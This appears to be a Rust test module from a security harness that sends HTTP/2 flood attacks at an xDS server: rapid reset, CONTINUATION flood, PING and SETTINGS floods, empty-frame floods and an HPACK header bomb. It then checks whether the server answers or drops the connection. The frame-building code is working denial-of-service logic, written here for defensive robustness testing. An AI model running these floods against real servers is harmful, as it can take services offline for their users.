//! Floods: frames of HTTP/2 that a peer sends without end.
//!
//! A flood is answered, or the server ends it. Not here: frames that are legal in themselves (`http`).

use std::time::Instant;

use anyhow::{Result, bail, ensure};

use crate::attack::Attack;
use crate::stage::{PAUSE, SOON, Stage};
use crate::wire::frame::{
    CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE,
    field, frame, frames, indexed_field, repeated_index, request_block,
};
use crate::wire::message::{Sotw, framed};
use crate::wire::raw::{Raw, Write};
use crate::wire::{ADS_SOTW, CDS};

/// The attacks of this file.
pub(super) const ATTACKS: &[Attack] = &[
    Attack {
        name: "rapid-reset",
        about: "streams are opened and reset at once, without end",
        setup: |_| {},
        run: |stage| Box::pin(rapid_reset(stage)),
        growth: 100,
        in_ci: true,
    },
    Attack {
        name: "continuation-flood",
        about: "a block of headers goes on without end",
        setup: |_| {},
        run: |stage| Box::pin(continuation_flood(stage)),
        growth: 100,
        in_ci: true,
    },
    Attack {
        name: "ping-flood",
        about: "pings are sent without end, and their answers are not read",
        setup: |_| {},
        run: |stage| {
            let answers = Answers { kind: PING, is_empty: false, count: 1 };
            Box::pin(flood(stage, frame(PING, 0, 0, &[7; 8]), answers))
        },
        growth: 100,
        in_ci: true,
    },
    Attack {
        name: "settings-flood",
        about: "settings are sent without end, and their acknowledgements are not read",
        setup: |_| {},
        run: |stage| {
            // The first acknowledgement is for the settings of the preface.
            let answers = Answers { kind: SETTINGS, is_empty: true, count: 2 };
            Box::pin(flood(stage, frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]), answers))
        },
        growth: 100,
        in_ci: true,
    },
    Attack {
        name: "empty-frames",
        about: "frames of data without data, and updates of windows by one, without end",
        setup: |_| {},
        run: |stage| Box::pin(empty_frames(stage)),
        growth: 100,
        in_ci: true,
    },
    Attack {
        name: "header-bomb",
        about: "a field of 4 kB in the table of HPACK is named 4,000 times by one byte each",
        setup: |_| {},
        run: |stage| Box::pin(header_bomb(stage)),
        growth: 100,
        in_ci: true,
    },
];

/// Writes bytes again and again until the server closes or takes no more, or the time is over.
async fn repeat(stage: &Stage, raw: &mut Raw, bytes: &[u8]) -> Result<String> {
    let (begin, mut end) = (Instant::now(), Write::Taken);
    let most = stage.scale(1 << 30, 16 << 20) as u64;
    while begin.elapsed() < stage.seconds() && raw.written < most {
        end = raw.write(bytes).await;
        if end != Write::Taken {
            break;
        }
    }
    let taken = raw.written >> 10;
    ensure!(taken > 0, "nothing was taken: {end:?}");
    Ok(match end {
        Write::Taken => format!("{taken} KB were taken"),
        Write::Stalled => format!("it reads no more after {taken} KB"),
        Write::Closed => format!("closed after {taken} KB"),
    })
}

/// The frames of a kind, with a payload or without, that answer a flood if there are so many.
#[derive(Clone, Copy)]
struct Answers {
    kind: u8,
    is_empty: bool,
    count: usize,
}

/// Reads until the server has answered, or has ended a stream or the connection; fails if it does
/// neither.
async fn is_seen(raw: &mut Raw, answers: Option<Answers>) -> Result<String> {
    let is_answer = |kind: u8, payload: &[u8]| {
        answers.is_some_and(|it| it.kind == kind && it.is_empty == payload.is_empty())
    };
    let (begin, mut read) = (Instant::now(), Vec::new());
    while begin.elapsed() < SOON {
        let more = raw.read_to_end(PAUSE).await;
        read.extend(more.bytes);
        let mut count = 0;
        for (kind, _, payload) in frames(&read) {
            count += usize::from(is_answer(kind, payload));
            match kind {
                GOAWAY => return Ok("GOAWAY".to_owned()),
                RST_STREAM => return Ok("RST_STREAM".to_owned()),
                _ if answers.is_some_and(|it| it.count == count) => {
                    return Ok("answered".to_owned());
                }
                _ => {}
            }
        }
        if more.closed {
            return Ok("closed".to_owned());
        }
    }
    bail!("the server neither answers nor ends it")
}

async fn flood(stage: &Stage, one: Vec<u8>, answers: Answers) -> Result<String> {
    let mut raw = Raw::http2(stage.xds(), 65_535).await?;
    let taken = repeat(stage, &mut raw, &one.repeat(1_000)).await?;
    Ok(format!("{taken}: {}", is_seen(&mut raw, Some(answers)).await?))
}

async fn empty_frames(stage: &Stage) -> Result<String> {
    let mut raw = Raw::http2(stage.xds(), 65_535).await?;
    raw.write(&frame(HEADERS, END_HEADERS, 1, &request_block(ADS_SOTW))).await;
    let update = frame(WINDOW_UPDATE, 0, 1, &[0, 0, 0, 1]);
    let both = [frame(DATA, 0, 1, &[]), update].concat();
    let taken = repeat(stage, &mut raw, &both.repeat(1_000)).await?;
    // A server that takes them all answers a request behind them.
    let request = Sotw::first("attacker", CDS, ["innocent"]).encode();
    raw.write(&frame(DATA, 0, 1, &framed(&request))).await;
    let answer = Answers { kind: DATA, is_empty: false, count: 1 };
    Ok(format!("{taken}: {}", is_seen(&mut raw, Some(answer)).await?))
}

async fn rapid_reset(stage: &Stage) -> Result<String> {
    let mut raw = Raw::http2(stage.xds(), 65_535).await?;
    let begin = Instant::now();
    let block = request_block(ADS_SOTW);
    let most = u32::try_from(stage.scale(10_000_000, 100_000))?;
    let mut id = 1;
    while begin.elapsed() < stage.seconds() && id < most {
        let mut bytes = Vec::new();
        for _ in 0..100 {
            bytes.extend(frame(HEADERS, END_HEADERS, id, &block));
            bytes.extend(frame(RST_STREAM, 0, id, &[0, 0, 0, 8]));
            id += 2;
        }
        if raw.write(&bytes).await != Write::Taken {
            break;
        }
    }
    Ok(format!("{} streams: {}", id / 2, is_seen(&mut raw, None).await?))
}

async fn continuation_flood(stage: &Stage) -> Result<String> {
    let mut raw = Raw::http2(stage.xds(), 65_535).await?;
    raw.write(&frame(HEADERS, 0, 1, &request_block(ADS_SOTW))).await;
    let more = frame(CONTINUATION, 0, 1, &field("x-filler", &"y".repeat(8_000)));
    let taken = repeat(stage, &mut raw, &more).await?;
    Ok(format!("{taken}: {}", is_seen(&mut raw, None).await?))
}

async fn header_bomb(stage: &Stage) -> Result<String> {
    let mut raw = Raw::http2(stage.xds(), 65_535).await?;
    let big = indexed_field("x-big", &"y".repeat(4_000));
    let first = [request_block(ADS_SOTW), big].concat();
    raw.write(&frame(HEADERS, END_HEADERS, 1, &first)).await;
    let bomb = [request_block(ADS_SOTW), repeated_index(4_000)].concat();
    let mut id = 3;
    let begin = Instant::now();
    while begin.elapsed() < stage.seconds() && id < 2_000 {
        if raw.write(&frame(HEADERS, END_HEADERS, id, &bomb)).await != Write::Taken {
            break;
        }
        id += 2;
    }
    Ok(format!("{} bombs: {}", id / 2, is_seen(&mut raw, None).await?))
}
